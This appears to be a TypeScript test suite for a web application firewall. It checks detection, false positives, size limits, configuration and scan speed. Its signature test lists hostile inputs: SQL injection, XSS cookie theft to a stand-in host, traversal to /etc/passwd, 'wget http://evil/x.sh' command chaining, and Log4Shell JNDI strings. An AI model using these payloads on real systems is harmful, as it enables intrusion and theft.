import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Value } from '@sinclair/typebox/value';
import { TurnpikeError, WAF_CATEGORIES, WAF_RULES, WafConfig, wafProblems, type WafConfig as Cfg } from '@turnpike/common';
import { checkWaf, compileWaf, percentDecode, type WafRequest, type WafVerdict } from './index.js';

function config(partial: Partial<Cfg> = {}): Cfg {
  const c = Value.Default(WafConfig, structuredClone(partial)) as Cfg;
  assert.ok(Value.Check(WafConfig, c), `valid config ${JSON.stringify(partial)}`);
  return c;
}

function req(more: Partial<WafRequest> & { bodyText?: string } = {}): WafRequest {
  const { bodyText, ...rest } = more;
  const body = bodyText === undefined ? (rest.body ?? null) : Buffer.from(bodyText);
  return { path: '/api/items', query: '', headers: ['host', 'api.example.com', 'user-agent', 'curl/8.5.0'], contentLength: body === null ? -1 : body.length, ...rest, body };
}

const policy = compileWaf(config());

function ruleOf(v: WafVerdict | null): string | null {
  return v === null ? null : v.ruleId;
}

test('waf signatures: each attack class is caught in path, query, header and body, URL-decoded and double-decoded', () => {
  const cases: [string, WafRequest, string][] = [
    ["' or 1=1 in the query", req({ query: "user=admin'%20or%201=1--" }), 'sqli-tautology'],
    ['" or "a"="a', req({ query: 'q=%22%20OR%20%22a%22%3D%22a' }), 'sqli-tautology'],
    ["' or 'x' like 'x, + as space", req({ query: "name=x'+or+'x'+like+'x" }), 'sqli-tautology'],
    ['1 or 1=1 numeric', req({ query: 'id=1%20or%202=2' }), 'sqli-tautology-numeric'],
    ['union select with comment separators', req({ query: 'id=-1/**/UNION/**/ALL/**/SELECT/**/NULL,version()' }), 'sqli-union-select'],
    ['union select in a JSON body', req({ bodyText: '{"id":"1 union select password from users"}' }), 'sqli-union-select'],
    ['; drop table', req({ query: 'sort=name;%20DROP%20TABLE%20users' }), 'sqli-stacked-query'],
    ['admin\'-- comment truncation', req({ query: "user=admin'--%20" }), 'sqli-comment-truncation'],
    ['MySQL version comment', req({ path: '/items/1/*!50000union*/' }), 'sqli-comment-truncation'],
    ['sleep( blind', req({ query: 'id=1%20AND%20SLEEP(5)' }), 'sqli-functions'],
    ['<script in the query', req({ query: 'q=%3Cscript%3Ealert(1)%3C/script%3E' }), 'xss-script-tag'],
    ['</script in a JSON body via \\u escapes', req({ bodyText: '{"bio":"\\u003c/script\\u003e\\u003cscript>x"}' }), 'xss-script-tag'],
    ['javascript: URI', req({ query: 'next=javascript:alert(document.domain)' }), 'xss-js-uri'],
    ['onerror= handler', req({ bodyText: '{"html":"<img src=x onerror=alert(1)>"}' }), 'xss-event-handler'],
    ['<iframe', req({ query: 'x=%3Ciframe%20src=//evil' }), 'xss-active-element'],
    ['document.cookie', req({ bodyText: 'c=fetch("//e/?"+document.cookie)' }), 'xss-dom-access'],
    ['../ in the path', req({ path: '/static/../../etc/app.conf' }), 'traversal-dot-dot'],
    ['%2e%2e%2f encoded', req({ path: '/static/%2e%2e%2f%2e%2e%2fsecret' }), 'traversal-dot-dot'],
    ['%252e%252e%252f double-encoded', req({ query: 'file=%252e%252e%252fconfig' }), 'traversal-dot-dot'],
    ['..\\ Windows', req({ query: 'file=..%5C..%5Cboot' }), 'traversal-dot-dot'],
    ['trailing /.. segment', req({ path: '/files/a/..' }), 'traversal-dot-dot'],
    ['null byte', req({ query: 'file=report.pdf%00.exe' }), 'traversal-null-byte'],
    ['/etc/passwd', req({ query: 'file=/etc/passwd' }), 'traversal-sensitive-file'],
    [';cat /etc/passwd', req({ query: 'host=example.com;cat%20/etc/passwd' }), 'cmd-chained'],
    ['| id at the end', req({ query: 'host=example.com|id' }), 'cmd-chained'],
    ['&& wget', req({ bodyText: '{"host":"x && wget http://evil/x.sh"}' }), 'cmd-chained'],
    ['$(...) substitution', req({ query: 'name=$(whoami)' }), 'cmd-substitution'],
    ['backticks', req({ bodyText: '{"name":"`cat /etc/hostname`"}' }), 'cmd-substitution'],
    ['${IFS}', req({ query: 'x=a${IFS}b' }), 'cmd-substitution'],
    ['${jndi: in User-Agent', req({ headers: ['user-agent', '${jndi:ldap://evil.example/a}'] }), 'log4shell-jndi'],
    ['${jndi: in the body', req({ bodyText: '{"name":"${jndi:rmi://x/y}"}' }), 'log4shell-jndi'],
    ['nested lookup obfuscation', req({ query: 'q=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D' }), 'log4shell-nested-lookup'],
    ['${jndi: in Referer, encoded', req({ headers: ['referer', 'https://a.example/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D'] }), 'log4shell-jndi'],
  ];
  for (const [label, r, rule] of cases) {
    const v = checkWaf(policy, r);
    assert.equal(ruleOf(v), rule, label);
    assert.equal(v!.code, 'TP_ERR_WAF_BLOCKED');
    assert.equal(v!.status, 403);
    assert.equal(v!.block, true);
    assert.equal(v!.category, WAF_RULES.find((x) => x.id === rule)!.category, label);
    assert.equal(v!.message, `request refused by the web application firewall (rule ${rule}, ${v!.category} in the ${v!.target})`, 'the verdict never quotes the request');
  }
});

test('waf false positives: ordinary API traffic passes', () => {
  const ok: [string, WafRequest][] = [
    ['apostrophes in JSON', req({ bodyText: JSON.stringify({ name: "O'Brien", note: "it's Sean's order, isn't it? Don't or won't" }) })],
    ['SQL words in text', req({ bodyText: JSON.stringify({ text: 'Please select the union representative and update the table or delete it from the list; drop by later', title: 'Select, union and drop: a guide' }) })],
    ['select in the query', req({ query: 'q=select+a+product&fields=id,name,created_at&order=desc' })],
    ['encoded slashes in a query value', req({ query: 'next=%2Fhome%2Fuser%2Fdocs&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb%3Fa%3D1' })],
    ['query names starting with on', req({ query: 'online=true&onboarding=1&onload_ms=30' })],
    ['colors and hashes', req({ query: 'color=%23ff0000&tag=%23launch', bodyText: '{"color":"#fff","c2":"#000"}' })],
    ['percent in text', req({ query: 'discount=50%25&q=100%', bodyText: '{"rate":"5% off","x":"%zz"}' })],
    ['math and comparisons', req({ bodyText: '{"expr":"a >= 1 and b <= 2","n":"1 or 2 items"}' })],
    ['markdown and code-ish prose', req({ bodyText: JSON.stringify({ md: 'Use `npm install` then run the app. Costs $5 (tax incl.) and ${price} template stays.', html: '<p>Hello <b>world</b></p>' }) })],
    ['an ellipsis and relative words', req({ bodyText: '{"t":"Loading... please wait. and/or"}' })],
    ['JavaScript as a word', req({ bodyText: '{"book":"JavaScript: The Good Parts"}' })],
    ['dates, emails, uuids, base64', req({ query: 'since=2024-01-01T00:00:00Z&email=a.b%2Btag%40example.com&id=3f2504e0-4f89-41d3-9a0c-0305e82c3301&sig=aGVsbG8%2Bd29ybGQ%3D' })],
    ['semicolons in text', req({ bodyText: '{"a":"first; catalogue second; id card"}' })],
    ['usual headers', req({ headers: ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36', 'referer', 'https://app.example.com/orders?id=5&sort=-created', 'accept', '*/*'] })],
    ['path with dots in names', req({ path: '/files/v1.2.3/archive.tar.gz', query: 'v=1..2' })],
  ];
  for (const [label, r] of ok) assert.equal(ruleOf(checkWaf(policy, r)), null, label);
});

test('waf size rules: URL length, header count, header value length, body length (declared or received)', () => {
  const p = compileWaf(config({ max_url_bytes: 100, max_header_count: 4, max_header_bytes: 50, max_body_bytes: 1000 }));
  assert.equal(ruleOf(checkWaf(p, req({ query: `a=${'x'.repeat(100)}` }))), 'size-url');
  assert.equal(ruleOf(checkWaf(p, req({ path: `/${'x'.repeat(89)}` }))), null, 'exactly at the limit (10 + 90)');
  assert.equal(ruleOf(checkWaf(p, req({ path: `/${'x'.repeat(100)}` }))), 'size-url');
  assert.equal(ruleOf(checkWaf(p, req({ headers: ['a', '1', 'b', '2', 'c', '3', 'd', '4', 'e', '5'] }))), 'size-header-count');
  assert.equal(ruleOf(checkWaf(p, req({ headers: ['a', '1', 'b', '2', 'c', '3', 'd', '4'] }))), null);
  assert.equal(ruleOf(checkWaf(p, req({ headers: ['cookie', 'x'.repeat(51)] }))), 'size-header-value');
  assert.equal(ruleOf(checkWaf(p, req({ contentLength: 1001 }))), 'size-body', 'declared length, body not read yet');
  assert.equal(ruleOf(checkWaf(p, req({ contentLength: -1, body: Buffer.alloc(1001, 97) }))), 'size-body', 'chunked body');
  assert.equal(checkWaf(p, req({ contentLength: 1001 }))!.target, 'size');
  const off = compileWaf(config({ max_url_bytes: null, max_header_count: null, max_header_bytes: null }));
  assert.equal(checkWaf(off, req({ query: `a=${'x'.repeat(100_000)}`, headers: Array.from({ length: 400 }, (_, i) => `h${i}`) })), null);
  assert.equal(checkWaf(compileWaf(config({ categories: ['sqli'], max_url_bytes: 10 })), req({ path: '/a-long-path-over-ten' })), null, 'size category off');
});

test('waf config: mode log-only flags without blocking; categories, disabled rules, header and body inspection limits', () => {
  const logOnly = compileWaf(config({ mode: 'log-only' }));
  const v = checkWaf(logOnly, req({ query: 'q=%3Cscript%3E' }));
  assert.equal(v?.ruleId, 'xss-script-tag');
  assert.equal(v?.block, false);
  assert.equal(v?.code, 'TP_ERR_WAF_BLOCKED');
  assert.ok(Object.isFrozen(v), 'verdicts are shared, frozen objects');
  assert.equal(checkWaf(logOnly, req({ query: 'q=%3Cscript%3E' })), v, 'no allocation per hit');

  const sqliOnly = compileWaf(config({ categories: ['sqli'] }));
  assert.equal(checkWaf(sqliOnly, req({ query: 'q=<script>' })), null);
  assert.equal(ruleOf(checkWaf(sqliOnly, req({ query: "q=' or 1=1" }))), 'sqli-tautology');

  const noScript = compileWaf(config({ disabled_rules: ['xss-script-tag'] }));
  assert.equal(checkWaf(noScript, req({ query: 'q=<script>' })), null);
  assert.equal(ruleOf(checkWaf(noScript, req({ query: 'q=<iframe src=x>' }))), 'xss-active-element');

  const body = `{"pad":"${'a'.repeat(2000)}","x":"<script>"}`;
  assert.equal(ruleOf(checkWaf(policy, req({ bodyText: body }))), 'xss-script-tag');
  assert.equal(checkWaf(compileWaf(config({ inspect_body_kib: 1 })), req({ bodyText: body })), null, 'beyond the first KiB');
  assert.equal(checkWaf(compileWaf(config({ inspect_body_kib: 0 })), req({ bodyText: '<script>' })), null);

  assert.equal(checkWaf(policy, req({ headers: ['x-custom', '${jndi:ldap://x}'] })), null, 'headers not listed are not scanned');
  assert.equal(ruleOf(checkWaf(compileWaf(config({ inspect_headers: ['x-custom'] })), req({ headers: ['x-custom', '${jndi:ldap://x}'] }))), 'log4shell-jndi');

  assert.deepEqual(wafProblems(config({ disabled_rules: ['sqli-tautology', 'no-such-rule'] })), [{ path: '/disabled_rules/1', message: '"no-such-rule" is not a WAF rule id' }]);
  assert.deepEqual(wafProblems(config({ categories: [] })).map((p) => p.path), ['/categories']);
  assert.throws(() => compileWaf(config({ disabled_rules: ['nope'] })), (e: unknown) => e instanceof TurnpikeError && e.code === 'TP_ERR_VALIDATION' && e.fields?.[0]?.path === '/disabled_rules/0');
  assert.equal(Value.Check(WafConfig, Value.Default(WafConfig, { mode: 'monitor' })), false);
  assert.equal(Value.Check(WafConfig, Value.Default(WafConfig, { categories: ['csrf'] })), false);
});

test('waf catalogue: ids unique, every category has rules, signatures have no capturing groups', () => {
  const ids = WAF_RULES.map((r) => r.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const c of WAF_CATEGORIES) assert.ok(WAF_RULES.some((r) => r.category === c), c);
  for (const r of WAF_RULES) if (r.pattern !== null) assert.equal(new RegExp(`${r.pattern}|`).exec('')!.length, 1, r.id);
  assert.equal(percentDecode('a%2Fb%zz%2', false), 'a/b%zz%2', 'malformed escapes stay');
  assert.equal(percentDecode('a+b', true), 'a b');
  const plain = 'no escapes here';
  assert.equal(percentDecode(plain, true), plain);
});

// Backtracking blow-ups on 1 MB take seconds to hours; a linear scan takes ~5-30 ms here. The bound leaves room
// for a loaded CI machine (a 50 ms bound failed there at 56 ms) while still catching any super-linear pattern.
test('waf scans are linear: 1 MB pathological inputs complete in under 400 ms each', () => {
  const big = compileWaf(config({ inspect_body_kib: 1024, max_url_bytes: null, max_header_bytes: null }));
  const n = 1 << 20;
  const inputs: [string, string][] = [
    ['quotes', "'".repeat(n)],
    ['quote then whitespace', `'${' '.repeat(n - 1)}`],
    ['or chains', "' or ".repeat(n / 5)],
    ['union without select', 'union '.repeat(n / 6)],
    ['comment openers', "'/*".repeat(n / 3)],
    ['nested lookups', '${'.repeat(n / 2)],
    ['angle brackets', '< '.repeat(n / 2)],
    ['dots', '.'.repeat(n)],
    ['separators', ';|&&'.repeat(n / 4)],
    ['percent escapes', '%25'.repeat(n / 3)],
    ['json escapes', '\\u0027'.repeat(n / 6)],
    ['letters', 'a'.repeat(n)],
  ];
  for (const [label, text] of inputs) {
    let best = Infinity;
    for (let round = 0; round < 3; round++) {
      const t0 = performance.now();
      checkWaf(big, req({ bodyText: text }));
      checkWaf(big, req({ query: text }));
      best = Math.min(best, (performance.now() - t0) / 2);
    }
    assert.ok(best < 400, `${label}: ${best.toFixed(1)} ms`);
  }
});

test('waf cost: a 1 KiB query and a 4 KiB JSON body of ordinary traffic (informational)', () => {
  const query = Array.from({ length: 40 }, (_, i) => `field${i}=value-${i}%20x`).join('&').slice(0, 1024);
  const body = Buffer.from(JSON.stringify({ items: Array.from({ length: 60 }, (_, i) => ({ id: i, name: `Item ${i}`, note: "O'Brien's pick" })) }).slice(0, 4096));
  const r = req({ path: '/api/v1/orders/123/items', query, body, headers: ['host', 'api.example.com', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64)', 'referer', 'https://app.example.com/x', 'content-type', 'application/json'] });
  assert.equal(checkWaf(policy, r), null);
  const n = 2000;
  let best = Infinity;
  for (let round = 0; round < 3; round++) {
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < n; i++) checkWaf(policy, r);
    best = Math.min(best, Number(process.hrtime.bigint() - t0) / n);
  }
  console.log(`waf: 1 KiB query + 4 KiB body ${(best / 1000).toFixed(1)} µs per request`);
  assert.ok(best < 5_000_000);
});
